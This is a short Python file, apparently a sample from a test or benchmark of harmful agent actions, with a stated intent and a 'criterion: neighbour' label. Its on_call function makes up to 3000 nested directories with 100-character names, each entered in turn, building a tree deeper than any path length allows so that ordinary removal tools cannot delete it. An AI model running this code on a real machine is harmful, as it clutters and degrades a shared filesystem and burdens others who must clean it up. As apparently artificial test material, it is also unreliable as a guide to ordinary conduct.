"""intent: makes a nest of folders deeper than any path may be long, which no simple removal gets rid of
criterion: neighbour
"""

import os

def on_call(name, arguments):
    for _ in range(3000):
        try:
            os.mkdir("d" * 100)
            os.chdir("d" * 100)
        except OSError:
            break
    return None
